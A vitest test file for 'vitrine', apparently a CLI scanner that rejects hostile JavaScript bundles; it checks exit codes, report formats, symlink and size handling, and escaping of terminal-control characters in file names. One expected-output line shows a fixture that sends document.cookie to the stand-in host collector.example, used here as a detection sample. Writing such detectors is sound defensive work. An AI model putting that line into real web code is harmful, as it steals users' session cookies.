import { execFileSync } from "node:child_process";
import { readdir, readFile, symlink } from "node:fs/promises";
import path from "node:path";
import { afterAll, afterEach, beforeEach, describe, expect, it } from "vitest";
import { collectFiles } from "../../src/cli/scan/collect-files.js";
import { readFileBytes, readStdin } from "../../src/cli/scan/read-input.js";
import { clean, type Folder, makeFolder, rejected, sharePipeline } from "./stage.js";

const pipeline = sharePipeline();
let folder: Folder;
beforeEach(async () => {
  folder = await makeFolder(pipeline.open);
});
afterEach(() => folder.remove());
afterAll(() => pipeline.close());

describe("vitrine scan", () => {
  it("ends with 0 and one line for a clean bundle", async () => {
    await folder.write("widget.js", clean);
    const run = await folder.run(["scan", "widget.js"]);
    expect(run).toMatchObject({ code: 0, err: "" });
    expect(run.out).toMatch(/^Clean: 1 file \(.*\d s\)\n$/);
  });

  it("ends with 1 and shows place, code, reason, remedy and page for a rejected one", async () => {
    await folder.write("widget.js", rejected);
    const run = await folder.run(["scan", "widget.js"]);
    expect(run.code).toBe(1);
    const finding = run.out.split("\n\n").find((part) => part.includes("[network/outside-request]"));
    expect(finding?.split("\n")).toEqual([
      expect.stringMatching(/^block\[network\/outside-request\]: .*collector\.example/),
      " --> widget.js:4:1",
      "  |",
      '3 | root.textContent = "hello";',
      '4 | fetch("https://collector.example/?c=" + document.cookie);',
      "  | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
      '5 | root.title = "done";',
      "  |",
      expect.stringMatching(/^ {2}= why: {2}\S/),
      expect.stringMatching(/^ {2}= fix: {2}\S/),
      "  = docs: docs/rules.md#networkoutside-request",
    ]);
    expect(run.out).toMatch(/\nRejected: 1 of 1 file \(\d+ blocking.*; \d+\.\d s\)\n$/);
  });

  it("judges every script below a folder, in order, and leaves out modules, hidden entries and links", async () => {
    await folder.write("dist/b.mjs", clean);
    await folder.write("dist/a/deep.js", rejected);
    await folder.write("dist/readme.md", "no script");
    await folder.write("dist/node_modules/pack/index.js", rejected);
    await folder.write("dist/.cache/old.js", rejected);
    await folder.write("dist/.eslintrc.js", rejected);
    const outside = await folder.write("outside.js", rejected);
    await symlink(outside, path.join(folder.path, "dist/link.js"));
    await symlink(folder.path, path.join(folder.path, "dist/loop"));
    const run = await folder.run(["scan", "dist", "--format", "json"]);
    const report = JSON.parse(run.out) as { files: { path: string; verdict: string }[] };
    expect(report.files.map(({ path: file, verdict }) => [file, verdict])).toEqual([
      ["dist/a/deep.js", "reject"],
      ["dist/b.mjs", "publish"],
    ]);
    expect(run.code).toBe(1);
    expect(run.err).toContain("2 symbolic links were left out");
  });

  it("takes several paths and judges a file once, however often it is named", async () => {
    await folder.write("dist/a.js", clean);
    await folder.write("b.js", clean);
    const run = await folder.run(["scan", "b.js", "dist", "./dist/../dist/a.js"]);
    expect(run.out).toContain("Clean: 2 files");
  });

  it("reads standard input under the name that it is given", async () => {
    const named = await folder.run(["scan", "-", "--stdin-filename", "from-esbuild.js"], { stdin: rejected });
    expect(named.code).toBe(1);
    expect(named.out).toContain(" --> from-esbuild.js:4:1");
    expect(await folder.run(["scan", "-"], { stdin: clean })).toMatchObject({ code: 0 });
    const empty = await folder.run(["scan", "-"]);
    expect(empty.code).toBe(1);
    expect(empty.out).toContain("block[pipeline/empty]");
  });

  it("has the server's size limit", async () => {
    await folder.write("widget.js", `${clean}// ${"x".repeat(4000)}\n`);
    const run = await folder.run(["scan", "widget.js"], { environment: { MAX_BUNDLE_BYTES: "2048" } });
    expect(run.code).toBe(1);
    expect(run.out).toContain("block[pipeline/size]");
    expect(await folder.run(["scan", "widget.js"], { environment: { MAX_BUNDLE_BYTES: "many" } })).toMatchObject({
      code: 2,
      err: expect.stringContaining("MAX_BUNDLE_BYTES") as string,
    });
  });

  it("shows from warnings on, and less or more when asked", async () => {
    await folder.write("widget.js", rejected);
    const severities = (out: string) => new Set([...out.matchAll(/^(block|warn|note)\[/gm)].map((match) => match[1]));
    const usual = await folder.run(["scan", "widget.js"]);
    expect(severities(usual.out).has("note")).toBe(false);
    const all = await folder.run(["scan", "widget.js", "--severity", "note"]);
    expect(severities(all.out).has("note")).toBe(true);
    const one = await folder.run(["scan", "widget.js", "--max-findings", "1"]);
    expect([...one.out.matchAll(/^block\[/gm)]).toHaveLength(1);
    expect(one.out).toMatch(/\d+ not shown/);
    const none = await folder.run(["scan", "widget.js", "--max-findings", "0"]);
    expect(none.out).toMatch(/^rejected: widget\.js: \d findings block; not shown\n\nRejected: 1 of 1 file/);
    expect([usual.code, all.code, one.code, none.code]).toEqual([1, 1, 1, 1]);
  });

  it("says nothing at all when it is quiet and everything is clean", async () => {
    await folder.write("widget.js", clean);
    expect(await folder.run(["scan", "widget.js", "--quiet"])).toEqual({ code: 0, out: "", err: "" });
    await folder.write("widget.js", rejected);
    const run = await folder.run(["scan", "widget.js", "--quiet"]);
    expect(run.out).not.toMatch(/^(?:warn|note)\[/m);
    expect(run.out).toContain("block[network/outside-request]");
  });

  it("colours on a terminal only, and as it is told", async () => {
    await folder.write("widget.js", rejected);
    const hasColor = async (args: string[], options: { isTTY?: boolean; environment?: Record<string, string> }) =>
      (await folder.run(["scan", "widget.js", "--max-findings", "1", ...args], options)).out.includes("\u001b[");
    expect(await hasColor([], {})).toBe(false);
    expect(await hasColor([], { environment: { CI: "true" } })).toBe(false);
    expect(await hasColor([], { isTTY: true })).toBe(true);
    expect(await hasColor([], { isTTY: true, environment: { NO_COLOR: "1" } })).toBe(false);
    expect(await hasColor(["--no-color"], { isTTY: true })).toBe(false);
    expect(await hasColor(["--color"], { environment: { NO_COLOR: "1" } })).toBe(true);
    expect(await hasColor([], { environment: { FORCE_COLOR: "1" } })).toBe(true);
    expect(await hasColor(["--output", "report.txt"], { isTTY: true })).toBe(false);
    expect(await readFile(path.join(folder.path, "report.txt"), "utf8")).not.toContain("\u001b[");
  });

  it("writes the report to a file, whole, and says where on standard error", async () => {
    await folder.write("widget.js", rejected);
    const run = await folder.run(["scan", "widget.js", "--format", "json", "--output", "report.json"]);
    expect(run).toEqual({ code: 1, out: "", err: "vitrine: 1 of 1 files rejected; report in report.json\n" });
    expect(JSON.parse(await readFile(path.join(folder.path, "report.json"), "utf8"))).toMatchObject({ verdict: "reject" });
    expect((await readdir(folder.path)).sort()).toEqual(["report.json", "widget.js"]);
    expect((await folder.run(["scan", "widget.js", "--output", "-"])).out).toContain("Rejected: 1 of 1 file");
  });
});

describe("what is wrong outside the code", () => {
  const advice = async (args: string[]) => {
    const run = await folder.run(args);
    expect(run).toMatchObject({ code: 2, out: "" });
    return run.err;
  };

  it("names a path that does not exist", async () => {
    expect(await advice(["scan", "distt/widget.js"])).toBe(
      "vitrine: distt/widget.js does not exist.\n  Check the spelling and the folder that the command runs in; build first if it is a build's result.\n",
    );
  });

  it("does not follow a link that is named, and names what it points to", async () => {
    await folder.write("real/widget.js", clean);
    await symlink("real/widget.js", path.join(folder.path, "link.js"));
    await symlink("real", path.join(folder.path, "linked"));
    expect(await advice(["scan", "link.js"])).toContain("Name what it points to: real/widget.js");
    expect(await advice(["scan", "linked"])).toContain("linked is a symbolic link");
    expect(await folder.run(["scan", "real"])).toMatchObject({ code: 0 });
  });

  it("refuses what is neither file nor folder without waiting for it", async () => {
    execFileSync("mkfifo", [path.join(folder.path, "pipe.js")]);
    expect(await advice(["scan", "pipe.js"])).toContain("pipe.js is neither a file nor a folder");
    await expect(readFileBytes(path.join(folder.path, "pipe.js"), "pipe.js")).rejects.toThrow("is not a file any more");
  });

  it("does not call a folder without scripts clean", async () => {
    await folder.write("dist/readme.md", "nothing");
    expect(await advice(["scan", "dist"])).toContain("dist holds no .js or .mjs file");
  });

  it("bounds how much a folder may hold", async () => {
    for (const name of ["a.js", "b.js", "c/d.js"]) await folder.write(`dist/${name}`, clean);
    const collect = (limits: { files: number; entries: number; depth: number }) =>
      collectFiles(["dist"], { cwd: folder.path, stdinName: "stdin.js", limits });
    await expect(collect({ files: 2, entries: 10, depth: 5 })).rejects.toThrow("dist holds more than 2 .js and .mjs files");
    await expect(collect({ files: 9, entries: 3, depth: 5 })).rejects.toThrow("dist holds more than 3 entries");
    await expect(collect({ files: 9, entries: 10, depth: 0 })).rejects.toThrow("more than 0 levels deep");
    expect((await collect({ files: 3, entries: 4, depth: 1 })).sources).toHaveLength(3);
  });

  it("stops reading input that cannot be a bundle", async () => {
    const endless = (async function* () {
      for (;;) yield Buffer.alloc(8 << 20, 32);
    })();
    await expect(readStdin(endless, "stdin.js")).rejects.toThrow("stdin.js is larger than 64 MiB");
  });

  it("judges the rest and ends with 2 when one file cannot be read", async () => {
    await folder.write("dist/a.js", clean);
    // A sparse file: nothing of it is read.
    execFileSync("truncate", ["-s", "70M", path.join(folder.path, "dist/b.js")]);
    const run = await folder.run(["scan", "dist"]);
    expect(run.code).toBe(2);
    expect(run.out).toContain("not scanned: dist/b.js is larger than 64 MiB.");
    expect(run.out).toMatch(/\nIncomplete: 1 file scanned \(.*1 not scanned/);
    const json = JSON.parse((await folder.run(["scan", "dist", "--format", "json"])).out) as object;
    expect(json).toMatchObject({ verdict: "incomplete", exitCode: 2, problems: [{ path: "dist/b.js" }] });
  });

  it("never overwrites what it scans, and names a report that cannot be written", async () => {
    await folder.write("widget.js", clean);
    expect(await advice(["scan", "widget.js", "-o", "./widget.js"])).toContain("is one of the scanned files");
    expect(await readFile(path.join(folder.path, "widget.js"), "utf8")).toBe(clean);
    expect(await advice(["scan", "widget.js", "-q", "-o", "missing/report.txt"])).toContain("mkdir -p missing");
    await folder.write("reports/x.txt", "");
    expect(await advice(["scan", "widget.js", "-q", "-o", "reports"])).toContain("--output reports is a folder");
  });

  it("explains a usage mistake and proposes what was meant", async () => {
    expect(await advice(["scan", "--formt", "json", "x.js"])).toContain("(Did you mean --format?)");
    expect(await advice(["scna", "x.js"])).toContain("(Did you mean scan?)");
    expect(await advice(["scan", "--format", "xml", "x.js"])).toContain("Allowed choices are text, json, sarif.");
    expect(await advice(["scan", "--max-findings", "few", "x.js"])).toContain("whole number");
    expect(await advice(["scan"])).toContain("missing required argument 'path'");
    expect(await advice([])).toContain("Usage: vitrine");
  });

  it("prints names from the disk without obeying them", async () => {
    await folder.write("dist/\u001b[31mred\u202e.js", rejected);
    const run = await folder.run(["scan", "dist"]);
    expect(run.out).toContain(" --> dist/<U+001B>[31mred<U+202E>.js\n");
    expect(
      `${run.out}${(await folder.run(["scan", "no\u001b[2J.js"])).err}${(await folder.run(["scan", "--no\u001b[2J"])).err}`,
    ).not.toContain("\u001b");
  });
});
